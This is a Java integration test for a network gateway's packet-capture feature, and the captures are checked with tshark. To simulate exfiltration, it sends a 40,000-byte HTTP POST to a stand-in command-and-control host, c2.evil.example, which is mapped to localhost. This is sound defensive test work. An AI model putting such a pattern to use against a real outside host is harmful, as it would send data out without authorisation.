package io.postern.gateway.real;

import static org.assertj.core.api.Assertions.assertThat;

import io.postern.analytics.Verdict;
import io.postern.gateway.e2e.TestingClient;
import io.postern.gateway.e2e.TestingConnection;
import io.postern.gateway.e2e.TestingFinding;
import io.postern.gateway.e2e.TestingGateway;
import io.postern.gateway.e2e.TestingOrigin;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What is captured of an app, as tshark reads it. */
@Tag("real")
class CapturesIT {

    private static final String APP = "com.acme.app";

    @TempDir
    Path dir;

    @Test
    void tsharkFindsNothingWrongWithIt() throws Exception {
        Program tshark = Program.installed("tshark", "tshark", dir);
        String settings = "upstream: {allow-networks: ['127.0.0.0/8'], hosts: {c2.evil.example: 127.0.0.1}}\n"
                + "evidence: {capture: {purpose: case 17, approver: dpo, until: 2099-12-31}}\n";
        try (TestingGateway gateway = TestingGateway.start(dir, settings, "");
                TestingOrigin origin = new TestingOrigin()) {
            gateway.gateway()
                    .findings()
                    .found(TestingFinding.of("LC01").at(System.currentTimeMillis()), Verdict.Action.ALERT, "");
            gateway.awaitMetric("postern_capture_armed", 1);
            try (TestingConnection client = TestingClient.tunnel(gateway, "c2.evil.example:" + origin.port(), APP);
                    TestingConnection server = origin.accept()) {
                client.send("POST /in HTTP/1.1\r\nHost: c2.evil.example\r\nContent-Length: 40000\r\n\r\n"
                        + "x".repeat(40_000));
                server.read(40_000);
                server.send("HTTP/1.1 204 No Content\r\n\r\n");
                client.read(27);
            }
            gateway.awaitNothingLeft();
        }
        Path file;
        try (Stream<Path> all = Files.list(dir.resolve("var/captures"))) {
            file = all.findFirst().orElseThrow();
        }

        assertThat(fields(tshark, file, "", "frame.interface_description"))
                .isNotEmpty()
                .containsOnly("device=LC01 profile=work app=" + APP);
        assertThat(fields(tshark, file, "", "ip.checksum.status")).containsOnly("1");
        assertThat(fields(tshark, file, "", "tcp.checksum.status")).containsOnly("1");
        assertThat(fields(tshark, file, "tcp.analysis.flags", "frame.number")).isEmpty();
        assertThat(fields(tshark, file, "http.request", "http.content_length")).containsExactly("40000");
        assertThat(fields(tshark, file, "http.response", "http.response.code")).containsExactly("204");
        assertThat(fields(tshark, file, "tcp.flags.fin == 1", "tcp.stream")).containsExactly("0", "0");
    }

    private static List<String> fields(Program tshark, Path file, String filter, String field) {
        Program.Ended ended = tshark.run(
                "-r",
                file.toString(),
                "-Y",
                filter,
                "-o",
                "ip.check_checksum:TRUE",
                "-o",
                "tcp.check_checksum:TRUE",
                "-T",
                "fields",
                "-e",
                field);
        assertThat(ended.exit()).as(ended.err()).isZero();
        return ended.out().lines().toList();
    }
}
